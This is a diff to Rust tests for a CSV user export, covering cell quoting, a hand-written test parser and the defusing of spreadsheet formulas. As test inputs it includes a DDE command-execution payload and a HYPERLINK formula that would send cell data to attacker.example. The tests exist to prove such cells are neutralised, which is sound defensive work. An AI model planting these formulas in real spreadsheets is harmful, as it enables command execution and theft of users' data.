@@ -330,18 +330,16 @@ fn hashing_elsewhere_gives_the_same_result_and_every_hash_is_needed() {
 }
 
 #[test]
-fn export_quotes_every_cell_leaves_passwords_out_and_picks_users() {
+fn export_quotes_what_needs_it_leaves_passwords_out_and_picks_users() {
     let mut file = sample();
     file.users[0].set_plaintext_password("secret!".into());
     file.users[1].set_display_name(Some("Smith, \"Ann\"".into()));
     let out = to_csv(&file, None);
-    // Every cell quoted (OWASP's advice), so a spreadsheet whose list
-    // separator is `;` does not split a cell either.
     assert_eq!(
         out,
         "Name,DisplayName,Email,Password,Groups\r\n\
-         \"jDoe\",\"John Doe\",\"john@example.com\",\"\",\"Developers\"\r\n\
-         \"asmith\",\"Smith, \"\"Ann\"\"\",\"\",\"\",\"Developers;Ops\"\r\n"
+         jDoe,John Doe,john@example.com,,Developers\r\n\
+         asmith,\"Smith, \"\"Ann\"\"\",,,\"Developers;Ops\"\r\n"
     );
     assert!(!out.contains("secret"));
     let one = to_csv(&file, Some(&["asmith", "nobody"]));
@@ -447,30 +445,42 @@ mod props {
     }
 }
 
-/// The cells of a CSV line written with every cell quoted, unquoted: a
-/// parser of its own, so the test does not trust the code it tests.
-fn quoted_cells(line: &str) -> Vec<String> {
+/// The cells of one CSV line (no line breaks inside), unquoted: a parser
+/// of its own, so the test does not trust the code it tests. Says for each
+/// cell whether it was quoted.
+fn cells(line: &str) -> Vec<(String, bool)> {
     let mut cells = Vec::new();
-    let mut rest = line;
-    while let Some(body) = rest.strip_prefix('"') {
+    let mut chars = line.chars().peekable();
+    loop {
         let mut cell = String::new();
-        let mut chars = body.char_indices();
-        let end = loop {
-            match chars.next() {
-                Some((i, '"')) if body[i + 1..].starts_with('"') => {
-                    cell.push('"');
-                    chars.next();
+        let quoted = chars.peek() == Some(&'"');
+        if quoted {
+            chars.next();
+            loop {
+                match chars.next() {
+                    Some('"') if chars.peek() == Some(&'"') => {
+                        chars.next();
+                        cell.push('"');
+                    }
+                    Some('"') => break,
+                    Some(c) => cell.push(c),
+                    None => panic!("unclosed quote in {line:?}"),
                 }
-                Some((i, '"')) => break i + 1,
-                Some((_, c)) => cell.push(c),
-                None => panic!("unclosed quote in {line:?}"),
             }
-        };
-        cells.push(cell);
-        rest = body[end..].strip_prefix(',').unwrap_or(&body[end..]);
+        }
+        while let Some(&c) = chars.peek() {
+            if c == ',' {
+                break;
+            }
+            assert!(!quoted, "text after a closing quote in {line:?}");
+            cell.push(c);
+            chars.next();
+        }
+        cells.push((cell, quoted));
+        if chars.next().is_none() {
+            return cells;
+        }
     }
-    assert!(rest.is_empty(), "an unquoted cell in {line:?}");
-    cells
 }
 
 #[test]
@@ -495,16 +505,19 @@ fn exported_cells_a_spreadsheet_would_run_are_defused_and_read_back() {
     file.users.push(User::new("=cmd|' /C calc'!A0"));
     let out = to_csv(&file, None);
     for line in out.split("\r\n").skip(1).filter(|l| !l.is_empty()) {
-        for cell in quoted_cells(line) {
+        for (cell, quoted) in cells(line) {
             assert!(
                 !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                 "{cell:?} would run in a spreadsheet"
             );
+            if cell.starts_with('\'') || cell.contains([',', ';']) {
+                assert!(quoted, "{cell:?} is not quoted");
+            }
         }
     }
     assert!(out.contains("\"'=HYPERLINK(\"\"http://attacker.example/?p=\"\"&D2,\"\"Click\"\")\""));
     assert!(out.contains("\"''=already quoted\""));
-    assert!(out.contains("\"fine\""));
+    assert!(out.contains(",fine,"));
     // Reading the export back takes the `'` off: the same users.
     let back = parse_csv(&out).unwrap();
     assert!(back.bad_rows.is_empty(), "{:?}", back.bad_rows);
